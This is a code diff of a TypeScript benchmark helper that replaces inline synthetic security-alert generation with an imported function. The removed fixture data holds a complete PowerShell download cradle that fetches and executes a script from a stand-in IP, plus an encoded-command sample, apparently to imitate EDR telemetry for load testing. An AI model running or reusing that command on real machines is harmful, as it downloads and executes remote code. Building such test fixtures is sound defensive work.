@@ -7,6 +7,7 @@ import http from "node:http";
 import type { AddressInfo } from "node:net";
 import { apiHandler } from "@/lib/api/gateway";
 import { API_ROUTES } from "@/lib/api/routes";
+import { benchAlertItems } from "./ingest";
 
 export interface ApiHttpServer {
   url: string;
@@ -80,31 +81,9 @@ export function apiClient(baseUrl: string, host: string, key: string, sockets = 
   };
 }
 
-const SEVERITIES = ["critical", "high", "medium", "low", "info"] as const;
-
 /** A batch of `n` alerts as a sensor sends them (each with its raw vendor payload), as JSON text. */
 export function alertBatchJson(run: string, n: number, size: number): string {
-  const now = Date.now();
-  const alerts = Array.from({ length: size }, (_, i) => ({
-    external_id: `${run}-${n}-${i}`,
-    source: "bench-edr",
-    title: `Suspicious PowerShell download cradle on host-${i % 97}`,
-    severity: SEVERITIES[i % 5],
-    description: "powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')",
-    rule_name: "T1059.001 encoded command",
-    hostname: `host-${i % 97}.corp.example`,
-    source_ip: `10.${(i >> 8) & 255}.${i & 255}.${n & 255}`,
-    detected_at: new Date(now - i * 1000).toISOString(),
-    raw: {
-      vendor: "bench-edr",
-      event_id: `${run}-${n}-${i}`,
-      process: { name: "powershell.exe", pid: 4000 + i, cmdline: "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA" },
-      parent: { name: "winword.exe", pid: 3100 },
-      user: "CORP\\jdoe",
-      tags: ["execution", "defense-evasion"],
-    },
-  }));
-  return JSON.stringify({ alerts });
+  return JSON.stringify({ alerts: benchAlertItems(run, n, size) });
 }
 
 export function percentile(values: number[], p: number): number {
